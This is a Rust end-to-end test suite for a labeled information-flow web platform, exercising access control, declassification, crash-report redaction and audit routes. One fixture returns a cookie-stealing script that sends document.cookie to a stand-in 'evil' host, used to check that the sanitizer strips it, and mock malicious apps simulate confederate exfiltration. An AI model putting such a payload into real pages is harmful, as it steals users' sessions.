//! End-to-end platform tests: a toy application driven through the full
//! request path — HTTP gateway → session auth → launcher → kernel process
//! → labeled storage → export perimeter — over real TCP.

use bytes::Bytes;
use std::sync::Arc;
use w5_net::{HttpClient, Server, ServerConfig, Status};
use w5_platform::{
    ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, Gateway,
    Platform, PlatformApi, W5App, SESSION_COOKIE,
};

/// A minimal notes application: users store one private note and read it
/// back. `action=write` stores, `action=read` renders (owner's data →
/// labels follow the note).
struct NotesApp;

impl W5App for NotesApp {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let viewer = api.viewer().map(str::to_string);
        match req.action.as_str() {
            "write" => {
                let owner = viewer.ok_or(ApiError::Denied)?;
                let text = req.param("text").unwrap_or("").to_string();
                let path = format!("/notes/{owner}");
                match api.write_file(&path, Bytes::from(text.clone())) {
                    Ok(()) => {}
                    Err(ApiError::NotFound) => {
                        api.create_file(&path, Bytes::from(text), CreateLabels::ViewerData)?;
                    }
                    Err(e) => return Err(e),
                }
                Ok(AppResponse::text("saved"))
            }
            "read" => {
                // `user` param lets someone try to read another user's note;
                // the perimeter decides whether it may leave.
                let target = req
                    .param("user")
                    .map(str::to_string)
                    .or(viewer)
                    .ok_or(ApiError::Denied)?;
                let data = api.read_file(&format!("/notes/{target}"))?;
                Ok(AppResponse::html(format!(
                    "<html><body>note: {}</body></html>",
                    String::from_utf8_lossy(&data)
                )))
            }
            "evil-script" => Ok(AppResponse::html(
                "<html><script>document.location='http://evil/'+document.cookie</script>ok</html>"
                    .to_string(),
            )),
            "crash" => panic!("boom with secret {}", req.param("secret").unwrap_or("")),
            _ => Err(ApiError::NotFound),
        }
    }

    fn source_lines(&self) -> usize {
        40
    }
}

fn platform_with_notes() -> Arc<Platform> {
    let p = Platform::new_default("test-provider");
    p.apps
        .publish(AppManifest {
            name: "notes".into(),
            developer: "devA".into(),
            version: 1,
            description: "private notes".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: Some("struct NotesApp;".into()),
        })
        .unwrap();
    p.install_app("devA/notes", Arc::new(NotesApp));
    p
}

struct TestClient {
    client: HttpClient,
    addr: std::net::SocketAddr,
    cookie: Option<String>,
}

impl TestClient {
    fn new(addr: std::net::SocketAddr) -> TestClient {
        TestClient { client: HttpClient::new(), addr, cookie: None }
    }

    fn signup(&mut self, user: &str) {
        let body = format!("user={user}&password=pw");
        let resp = self
            .client
            .post(self.addr, "/signup", "application/x-www-form-urlencoded", body.as_bytes())
            .unwrap();
        assert_eq!(resp.status, Status::OK, "{}", resp.body_string());
        let sc = w5_platform::session_cookie_of(&resp).expect("session cookie");
        self.cookie = Some(format!("{}={}", SESSION_COOKIE, sc.value));
    }

    fn get(&self, path: &str) -> w5_net::Response {
        let headers: Vec<(&str, &str)> = match &self.cookie {
            Some(c) => vec![("cookie", c.as_str())],
            None => vec![],
        };
        self.client.get_with_headers(self.addr, path, &headers).unwrap()
    }

    fn post(&self, path: &str, body: &str) -> w5_net::Response {
        let headers: Vec<(&str, &str)> = match &self.cookie {
            Some(c) => vec![("cookie", c.as_str())],
            None => vec![],
        };
        self.client
            .post_with_headers(
                self.addr,
                path,
                "application/x-www-form-urlencoded",
                body.as_bytes(),
                &headers,
            )
            .unwrap()
    }
}

#[test]
fn full_stack_notes_flow() {
    let platform = platform_with_notes();
    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let addr = server.addr();

    // Bob signs up, delegates write privilege to the notes app (the §3.1
    // write-protection policy), and saves a note.
    let mut bob = TestClient::new(addr);
    bob.signup("bob");
    let resp = bob.post("/policy/delegate-write", "app=devA/notes");
    assert_eq!(resp.status, Status::OK);
    let resp = bob.post("/app/devA/notes/write", "text=meet+at+noon");
    assert_eq!(resp.status, Status::OK, "{}", resp.body_string());

    // Bob reads it back: his own tag clears at the perimeter.
    let resp = bob.get("/app/devA/notes/read");
    assert_eq!(resp.status, Status::OK);
    assert!(resp.body_string().contains("meet at noon"));

    // Alice signs up and tries to read Bob's note through the same app.
    // The app happily reads the file (it may!) — but the perimeter blocks
    // the export because nothing of Bob's policy clears Alice.
    let mut alice = TestClient::new(addr);
    alice.signup("alice");
    let resp = alice.get("/app/devA/notes/read?user=bob");
    assert_eq!(resp.status, Status::FORBIDDEN, "{}", resp.body_string());
    assert!(!resp.body_string().contains("noon"), "no leak in error body");

    // Bob grants friends-only for the notes app and befriends Alice.
    let resp = bob.post("/policy/grant", "declassifier=friends-only&app=devA/notes");
    assert_eq!(resp.status, Status::OK);
    platform.add_friend("bob", "alice");
    let resp = alice.get("/app/devA/notes/read?user=bob");
    assert_eq!(resp.status, Status::OK, "{}", resp.body_string());
    assert!(resp.body_string().contains("meet at noon"));

    // Carol (not a friend) is still blocked.
    let mut carol = TestClient::new(addr);
    carol.signup("carol");
    let resp = carol.get("/app/devA/notes/read?user=bob");
    assert_eq!(resp.status, Status::FORBIDDEN);

    // Anonymous is blocked too.
    let anon = TestClient::new(addr);
    let resp = anon.get("/app/devA/notes/read?user=bob");
    assert_eq!(resp.status, Status::FORBIDDEN);

    server.shutdown();
}

#[test]
fn write_requires_delegation() {
    let platform = platform_with_notes();
    let bob = platform.accounts.register("bob", "pw").unwrap();

    // Without write delegation, the instance lacks w_bob+ and cannot
    // create a file carrying Bob's integrity tag.
    let req = Platform::make_request("POST", "write", &[("text", "hi")], Some(&bob), Bytes::new());
    let r = platform.invoke(Some(&bob), "devA/notes", req);
    assert_eq!(r.status, 403, "create as ViewerData must fail without w+");

    // Delegate and retry.
    platform.policies.delegate_write(bob.id, "devA/notes");
    let req = Platform::make_request("POST", "write", &[("text", "hi")], Some(&bob), Bytes::new());
    let r = platform.invoke(Some(&bob), "devA/notes", req);
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
}

#[test]
fn sanitizer_strips_scripts_at_the_perimeter() {
    let platform = platform_with_notes();
    let bob = platform.accounts.register("bob", "pw").unwrap();
    let req = Platform::make_request("GET", "evil-script", &[], Some(&bob), Bytes::new());
    let r = platform.invoke(Some(&bob), "devA/notes", req);
    assert_eq!(r.status, 200);
    let body = String::from_utf8_lossy(&r.body).into_owned();
    assert!(!body.contains("document.cookie"), "{body}");
    assert!(body.contains("ok"));
    assert_eq!(r.sanitized.unwrap().scripts_removed, 1);
}

#[test]
fn crash_reports_are_redacted_when_tainted() {
    let platform = platform_with_notes();
    let bob = platform.accounts.register("bob", "pw").unwrap();
    platform.policies.delegate_write(bob.id, "devA/notes");

    // Untainted crash: detail flows to the developer.
    let req = Platform::make_request("GET", "crash", &[("secret", "plaintext")], Some(&bob), Bytes::new());
    let r = platform.invoke(Some(&bob), "devA/notes", req);
    assert_eq!(r.status, 500);
    let report = r.fault.unwrap();
    assert!(!report.redacted);
    assert!(report.detail.unwrap().contains("plaintext"));

    // Store a note, then crash an instance that read it: redacted.
    let req = Platform::make_request("POST", "write", &[("text", "ssn 123")], Some(&bob), Bytes::new());
    assert_eq!(platform.invoke(Some(&bob), "devA/notes", req).status, 200);

    struct TaintedCrash;
    impl W5App for TaintedCrash {
        fn handle(&self, _req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            let data = api.read_file("/notes/bob")?;
            panic!("leaking {:?}", data);
        }
        fn source_lines(&self) -> usize {
            6
        }
    }
    platform
        .apps
        .publish(AppManifest {
            name: "crashy".into(),
            developer: "devB".into(),
            version: 1,
            description: "crashes".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: None,
        })
        .unwrap();
    platform.install_app("devB/crashy", Arc::new(TaintedCrash));
    let req = Platform::make_request("GET", "x", &[], Some(&bob), Bytes::new());
    let r = platform.invoke(Some(&bob), "devB/crashy", req);
    assert_eq!(r.status, 500);
    let report = r.fault.unwrap();
    assert!(report.redacted, "crash after reading labeled data must redact");
    assert_eq!(report.detail, None);
}

#[test]
fn version_pinning_selects_manifest() {
    let platform = platform_with_notes();
    // Publish v2.
    platform
        .apps
        .publish(AppManifest {
            name: "notes".into(),
            developer: "devA".into(),
            version: 2,
            description: "v2".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: None,
        })
        .unwrap();
    let bob = platform.accounts.register("bob", "pw").unwrap();
    let latest = platform.resolve_manifest(Some(&bob), "devA/notes").unwrap();
    assert_eq!(latest.version, 2);
    // A launch shares the registry's manifest; it does not copy it.
    assert!(Arc::ptr_eq(&latest, &platform.resolve_manifest(Some(&bob), "devA/notes").unwrap()));
    assert!(Arc::ptr_eq(&latest, &platform.resolve_manifest(None, "devA/notes").unwrap()));
    platform.policies.pin_version(bob.id, "devA/notes", 1);
    assert_eq!(platform.resolve_manifest(Some(&bob), "devA/notes").unwrap().version, 1);
    // A newer publish moves everyone but the pinned viewer.
    platform.apps.publish(AppManifest { version: 3, ..(*latest).clone() }).unwrap();
    assert_eq!(platform.resolve_manifest(Some(&bob), "devA/notes").unwrap().version, 1);
    assert_eq!(platform.resolve_manifest(None, "devA/notes").unwrap().version, 3);
}

#[test]
fn gateway_misc_routes() {
    let platform = platform_with_notes();
    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let addr = server.addr();
    let c = HttpClient::new();

    // Catalog.
    let resp = c.get(addr, "/registry").unwrap();
    assert_eq!(resp.status, Status::OK);
    assert!(resp.body_string().contains("devA"));
    // Declassifier catalog.
    let resp = c.get(addr, "/declassifiers").unwrap();
    assert!(resp.body_string().contains("friends-only"));
    // Home page lists the app.
    let resp = c.get(addr, "/").unwrap();
    assert!(resp.body_string().contains("devA/notes"));
    // Whoami without session.
    let resp = c.get(addr, "/whoami").unwrap();
    assert!(resp.body_string().contains("null"));
    // Policy routes demand login.
    let resp = c.post(addr, "/policy/enroll", "application/x-www-form-urlencoded", b"app=devA/notes").unwrap();
    assert_eq!(resp.status, Status::UNAUTHORIZED);
    // Unknown route.
    let resp = c.get(addr, "/nope").unwrap();
    assert_eq!(resp.status, Status::NOT_FOUND);
    // Login with wrong password.
    let resp = c
        .post(addr, "/login", "application/x-www-form-urlencoded", b"user=ghost&password=x")
        .unwrap();
    assert_eq!(resp.status, Status::UNAUTHORIZED);

    server.shutdown();
}

#[test]
fn confederate_exfiltration_is_blocked_by_labels() {
    // The §3.1 scenario: a tainted app cannot "enlist another untrusted
    // application to export on its behalf" by stashing secrets in a public
    // file for the confederate to ship out.
    let platform = platform_with_notes();
    let bob = platform.accounts.register("bob", "pw").unwrap();
    platform.policies.delegate_write(bob.id, "devA/notes");
    let req = Platform::make_request("POST", "write", &[("text", "secret")], Some(&bob), Bytes::new());
    assert_eq!(platform.invoke(Some(&bob), "devA/notes", req).status, 200);

    struct Stasher;
    impl W5App for Stasher {
        fn handle(&self, _req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            let data = api.read_file("/notes/bob")?; // taints
            // Try to stash at public labels for the confederate…
            api.create_file("/public/drop.bin", data, CreateLabels::Derived)?;
            Ok(AppResponse::text("stashed"))
        }
        fn source_lines(&self) -> usize {
            7
        }
    }
    platform
        .apps
        .publish(AppManifest {
            name: "stasher".into(),
            developer: "devE".into(),
            version: 1,
            description: "malicious".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: None,
        })
        .unwrap();
    platform.install_app("devE/stasher", Arc::new(Stasher));

    let alice = platform.accounts.register("alice", "pw").unwrap();
    // Alice runs the stasher: the file IS created, but at *derived* labels
    // that still carry Bob's tag.
    let req = Platform::make_request("GET", "x", &[], Some(&alice), Bytes::new());
    let r = platform.invoke(Some(&alice), "devE/stasher", req);
    // The stash response itself is already blocked for Alice (the app is
    // tainted with Bob's tag by the read).
    assert_eq!(r.status, 403);

    // Even if the confederate reads the drop file, its export to Alice is
    // blocked the same way — the label followed the data.
    struct Confederate;
    impl W5App for Confederate {
        fn handle(&self, _req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            let data = api.read_file("/public/drop.bin")?;
            Ok(AppResponse::text(String::from_utf8_lossy(&data).into_owned()))
        }
        fn source_lines(&self) -> usize {
            5
        }
    }
    platform
        .apps
        .publish(AppManifest {
            name: "confederate".into(),
            developer: "devE".into(),
            version: 1,
            description: "malicious".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: None,
        })
        .unwrap();
    platform.install_app("devE/confederate", Arc::new(Confederate));
    let req = Platform::make_request("GET", "x", &[], Some(&alice), Bytes::new());
    let r = platform.invoke(Some(&alice), "devE/confederate", req);
    assert!(
        r.status == 403 || r.status == 404,
        "export must not succeed; got {} {:?}",
        r.status,
        String::from_utf8_lossy(&r.body)
    );
    // And Bob can still read his own data through legitimate channels.
    let req = Platform::make_request("GET", "read", &[], Some(&bob), Bytes::new());
    assert_eq!(platform.invoke(Some(&bob), "devA/notes", req).status, 200);
}

#[test]
fn audit_and_dev_fault_routes() {
    let platform = platform_with_notes();
    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let addr = server.addr();

    let mut bob = TestClient::new(addr);
    bob.signup("bob");
    bob.post("/policy/delegate-write", "app=devA/notes");
    assert_eq!(bob.post("/app/devA/notes/write", "text=private").status, Status::OK);

    // Carol probes bob's note; the block lands in bob's audit view.
    let mut carol = TestClient::new(addr);
    carol.signup("carol");
    assert_eq!(carol.get("/app/devA/notes/read?user=bob").status, Status::FORBIDDEN);

    let resp = bob.get("/audit");
    assert_eq!(resp.status, Status::OK);
    let body = resp.body_string();
    assert!(body.contains("\"allowed\":false"), "{body}");
    assert!(body.contains("devA/notes"));
    // Carol's own audit view shows nothing of bob's (her tags were not
    // involved).
    let resp = carol.get("/audit");
    assert_eq!(resp.body_string(), "[]");
    // Anonymous gets 401.
    let anon = TestClient::new(addr);
    assert_eq!(anon.get("/audit").status, Status::UNAUTHORIZED);

    // A crash shows up on the developer dashboard, without the secret.
    assert_eq!(bob.get("/app/devA/notes/crash?secret=hunter2").status.0, 500);
    let resp = bob.get("/dev/faults?app=devA/notes");
    let body = resp.body_string();
    assert!(body.contains("kind=crash"), "{body}");
    assert!(body.contains("hunter2"), "untainted crash detail flows to the dev: {body}");

    server.shutdown();
}

#[test]
fn source_audit_and_code_search_routes() {
    let platform = platform_with_notes();
    // A second, closed-source app and a library to rank.
    platform
        .apps
        .publish(AppManifest {
            name: "lib".into(),
            developer: "devL".into(),
            version: 1,
            description: "a widely used notes library".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: None,
        })
        .unwrap();
    platform
        .apps
        .publish(AppManifest {
            name: "notes2".into(),
            developer: "devZ".into(),
            version: 1,
            description: "another notes app".into(),
            module_slots: vec![],
            imports: vec!["devL/lib".into()],
            forked_from: None,
            source: None,
        })
        .unwrap();

    let server = Server::start(
        "127.0.0.1:0",
        ServerConfig::default(),
        Arc::new(Gateway::new(Arc::clone(&platform))),
    )
    .unwrap();
    let addr = server.addr();
    let client = HttpClient::new();

    // Open-source app: source + pinned hash.
    let resp = client.get(addr, "/registry/source?app=devA/notes").unwrap();
    assert_eq!(resp.status, Status::OK);
    assert_eq!(resp.body_string(), "struct NotesApp;");
    let hash = resp.header("x-w5-source-sha256").unwrap().to_string();
    assert_eq!(hash.len(), 64);
    // The hash matches an independent computation.
    let expect = w5_platform::crypto::hex(&w5_platform::crypto::sha256(b"struct NotesApp;"));
    assert_eq!(hash, expect);

    // Closed-source app: refused.
    let resp = client.get(addr, "/registry/source?app=devL/lib").unwrap();
    assert_eq!(resp.status, Status::NOT_FOUND);

    // Code search finds notes apps; the imported library ranks above the
    // leaf apps for a matching query.
    let resp = client.get(addr, "/search?q=notes").unwrap();
    assert_eq!(resp.status, Status::OK);
    let body = resp.body_string();
    assert!(body.contains("devA/notes"), "{body}");
    assert!(body.contains("devL/lib"));
    let lib_pos = body.find("devL/lib").unwrap();
    let leaf_pos = body.find("devZ/notes2").unwrap();
    assert!(lib_pos < leaf_pos, "imported lib should outrank the leaf: {body}");

    server.shutdown();
}
